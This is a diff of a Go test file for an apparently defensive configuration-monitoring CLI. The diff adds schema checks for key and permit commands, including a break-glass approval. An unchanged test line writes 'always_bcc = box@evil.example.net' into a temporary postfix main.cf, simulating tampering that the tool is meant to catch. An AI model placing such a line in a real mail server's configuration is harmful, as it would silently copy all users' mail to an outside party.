@@ -38,7 +38,7 @@ import (
 const schemaDir = "../../docs/schema"
 
 // schemaNames are the documents that have a schema.
-var schemaNames = []string{"scan", "diff", "finding", "findings", "check", "seal", "doctor", "config", "ledger-verify"}
+var schemaNames = []string{"scan", "diff", "finding", "findings", "check", "seal", "doctor", "config", "ledger-verify", "keys", "permit", "permits"}
 
 // schemaFiles reads all schemas by $id.
 func schemaFiles(t *testing.T) map[string]map[string]any {
@@ -152,6 +152,7 @@ func TestDocuments(t *testing.T) {
 	verb("check", any3, "check")
 	verb("findings", []int{0}, "findings", "list")
 	verb("ledger-verify", []int{0}, "ledger", "verify")
+	schemaPermits(t, verb, on)
 
 	main := filepath.Join(root, "etc/postfix/main.cf")
 	schemaAppend(t, main, "always_bcc = box@evil.example.net\nmessage_size_limit = 1\n")
@@ -177,6 +178,23 @@ func TestDocuments(t *testing.T) {
 		t.Fatal(err)
 	}
 	verb("ledger-verify", []int{0}, "ledger", "verify", "--checkpoint", other)
+}
+
+// schemaPermits has a permit asked for and approved alone.
+func schemaPermits(t *testing.T, verb func(schema string, codes []int, args ...string) []byte, on []string) {
+	t.Helper()
+	key := filepath.Join(t.TempDir(), "key.pem")
+	if code := cli.Run(t.Context(), append([]string{"keys", "create", "alice", "--login", "1000", "--out", key}, on...), io.Discard, io.Discard, "test"); code != 0 {
+		t.Fatalf("keys create: exit code %d", code)
+	}
+	verb("keys", []int{0}, "keys", "list")
+	verb("permit", []int{0}, "permit", "open", "--key", key, "--ticket", "T", "--reason", "r", "--until", "+1h", "--path", "/etc/x", "--host", "mail", "--actor", "1000", "--operation", "modified")
+	var list struct{ Permits []struct{ ID string } }
+	if err := json.Unmarshal(verb("permits", []int{0}, "permit", "list"), &list); err != nil || len(list.Permits) != 1 {
+		t.Fatalf("%d permits, %v", len(list.Permits), err)
+	}
+	verb("permit", []int{0}, "permit", "approve", list.Permits[0].ID, "--key", key, "--break-glass")
+	verb("permit", []int{0}, "permit", "show", list.Permits[0].ID)
 }
 
 func schemaAppend(t *testing.T, file, text string) {
